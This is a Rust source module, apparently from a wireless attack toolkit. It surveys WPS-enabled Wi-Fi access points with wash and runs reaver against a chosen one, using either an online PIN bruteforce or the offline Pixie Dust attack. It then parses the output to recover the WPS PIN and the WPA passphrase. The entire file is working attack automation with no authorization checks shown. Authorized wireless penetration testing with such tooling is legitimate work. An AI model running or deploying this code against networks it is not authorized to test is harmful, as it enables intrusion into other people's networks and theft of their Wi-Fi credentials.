//! WPS survey and PIN attacks
//!
//! `wash` surveys WPS-enabled access points; `reaver` runs the online PIN
//! bruteforce or the offline Pixie Dust variant. Both are bounded foreground
//! runs; reaver hitting its window is a normal negative outcome.

use skylark_core::{MacAddr, Result};
use skylark_session::ToolRunner;
use std::time::Duration;
use tracing::{debug, info};

/// A WPS-enabled access point reported by the survey
#[derive(Debug, Clone, PartialEq)]
pub struct WpsNetwork {
    pub bssid: MacAddr,
    pub channel: i32,
    pub rssi: i32,
    pub version: String,
    pub locked: bool,
    pub essid: String,
}

/// Outcome of a reaver run
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum WpsOutcome {
    Cracked {
        pin: Option<String>,
        psk: Option<String>,
    },
    /// AP is rate limiting or has locked WPS
    Locked,
    /// The attack window closed without a result
    TimedOut,
    Failed,
}

/// Parse wash column output: BSSID, channel, RSSI, WPS version, lock state,
/// ESSID. Header and noise lines fail the BSSID parse and drop out.
pub fn parse_wash_output(stdout: &str) -> Vec<WpsNetwork> {
    let mut networks = Vec::new();
    for line in stdout.lines() {
        let fields: Vec<&str> = line.split_whitespace().collect();
        if fields.len() < 6 {
            continue;
        }
        let Ok(bssid) = fields[0].parse::<MacAddr>() else {
            continue;
        };
        let Ok(channel) = fields[1].parse::<i32>() else {
            continue;
        };
        let Ok(rssi) = fields[2].parse::<i32>() else {
            continue;
        };
        let version = fields[3].to_string();
        let locked = fields[4].eq_ignore_ascii_case("yes");
        let essid = fields[5..].join(" ");
        networks.push(WpsNetwork {
            bssid,
            channel,
            rssi,
            version,
            locked,
            essid,
        });
    }
    networks
}

/// Survey WPS-enabled access points for `window`.
///
/// wash streams until killed, so the run is wrapped in timeout(1) and the
/// expected exit code is the timeout's.
pub async fn survey(
    runner: &dyn ToolRunner,
    iface: &str,
    window: Duration,
) -> Result<Vec<WpsNetwork>> {
    let secs = window.as_secs().max(1).to_string();
    info!(interface = %iface, seconds = %secs, "starting WPS survey");
    let out = runner
        .run(
            "timeout",
            &[&secs, "wash", "-i", iface],
            Some(window + Duration::from_secs(10)),
        )
        .await?;
    let networks = parse_wash_output(&out.stdout);
    info!(count = networks.len(), "WPS survey complete");
    Ok(networks)
}

fn extract_quoted(text: &str, marker: &str) -> Option<String> {
    let start = text.find(marker)? + marker.len();
    let rest = &text[start..];
    let open = rest.find('\'')? + 1;
    let close = rest[open..].find('\'')? + open;
    Some(rest[open..close].to_string())
}

/// Run reaver against one access point. `pixie` selects the offline Pixie
/// Dust attack instead of the full PIN bruteforce.
pub async fn pin_attack(
    runner: &dyn ToolRunner,
    iface: &str,
    bssid: &MacAddr,
    channel: i32,
    window: Duration,
    pixie: bool,
) -> Result<WpsOutcome> {
    let bssid = bssid.to_string();
    let channel = channel.to_string();
    let mut args = vec![
        "-i", iface, "-b", &bssid, "-c", &channel, "-vv",
    ];
    if pixie {
        args.push("-K");
        args.push("1");
    }

    info!(bssid = %bssid, pixie = pixie, "starting WPS PIN attack");
    let out = runner.run("reaver", &args, Some(window)).await?;
    if out.timed_out {
        debug!(bssid = %bssid, "WPS attack window closed");
        return Ok(WpsOutcome::TimedOut);
    }

    let text = format!("{}{}", out.stdout, out.stderr);
    let lower = text.to_lowercase();

    let pin = extract_quoted(&text, "WPS PIN:");
    let psk = extract_quoted(&text, "WPA PSK:");
    if pin.is_some() || psk.is_some() {
        info!(bssid = %bssid, "WPS PIN attack succeeded");
        return Ok(WpsOutcome::Cracked { pin, psk });
    }
    if lower.contains("rate limiting") || lower.contains("locked") {
        return Ok(WpsOutcome::Locked);
    }
    Ok(WpsOutcome::Failed)
}
